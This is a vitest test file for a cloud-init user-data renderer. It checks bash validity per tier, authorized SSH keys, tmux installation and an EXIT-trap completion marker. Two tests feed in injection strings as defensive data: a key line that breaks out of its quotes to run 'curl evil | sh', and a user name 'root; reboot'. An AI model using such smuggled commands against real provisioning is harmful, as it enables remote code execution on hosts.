// The first-boot script every VM gets: valid bash for every tier, keys installed for the login
// user, and a completion marker written by an EXIT trap whatever fails before it.
import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { CLOUD_INIT_MARKER, renderUserData } from "./user-data.js";

const BOT = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBotBotBotBotBotBotBotBotBotBotBotBotBotBotBot spawnbot";
const OWNER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOwnerOwnerOwnerOwnerOwnerOwnerOwnerOwnerOwner alice@laptop";

describe("cloud-init user-data", () => {
  it.each(["minimal", "node", "bun", "full"] as const)("is valid bash for the %s tier", (tier) => {
    const file = path.join(mkdtempSync(path.join(os.tmpdir(), "spawnbot-ud-")), "user-data.sh");
    writeFileSync(file, renderUserData({ tier, sshUser: "ubuntu", authorizedKeys: [BOT, OWNER] }));
    expect(spawnSync("bash", ["-n", file]).status).toBe(0);
  });

  it("authorizes the bot's and the owner's keys for the login user and installs tmux", () => {
    const script = renderUserData({ tier: "minimal", sshUser: "ubuntu", authorizedKeys: [BOT, OWNER] });
    expect(script).toContain(`echo '${BOT}' >> /home/ubuntu/.ssh/authorized_keys`);
    expect(script).toContain(`echo '${OWNER}' >> /home/ubuntu/.ssh/authorized_keys`);
    expect(script).toMatch(/apt-get install .*tmux/);
    expect(renderUserData({ tier: "node", sshUser: "root", authorizedKeys: [BOT] })).toContain("/root/.ssh/authorized_keys");
  });

  it("drops a key line that could break out of its quotes", () => {
    const hostile = "ssh-ed25519 AAAA' ; curl evil | sh ; echo '";
    const script = renderUserData({ tier: "minimal", sshUser: "root", authorizedKeys: [BOT, hostile] });
    expect(script).not.toContain("curl evil");
  });

  it("refuses an unsafe login user name", () => {
    expect(() => renderUserData({ tier: "minimal", sshUser: "root; reboot", authorizedKeys: [] })).toThrow(/unsafe ssh user/);
  });

  it("writes its marker from an EXIT trap even when a step fails", () => {
    const script = renderUserData({ tier: "minimal", sshUser: "root", authorizedKeys: [] });
    const dir = mkdtempSync(path.join(os.tmpdir(), "spawnbot-ud-"));
    const marker = path.join(dir, "marker");
    // Run only the trap line and a failing command, with the marker moved into a temp dir.
    const trap = script.split("\n").find((l) => l.startsWith("trap "))!.replaceAll(CLOUD_INIT_MARKER, marker).replaceAll("/var/lib/spawnbot", dir);
    const r = spawnSync("bash", ["-c", `set -e\n${trap}\nfalse\necho never`]);
    expect(r.status).not.toBe(0);
    expect(readFileSync(marker, "utf8")).toMatch(/^\d{4}-\d\d-\d\dT/);
    execFileSync("rm", ["-rf", dir]);
  });
});
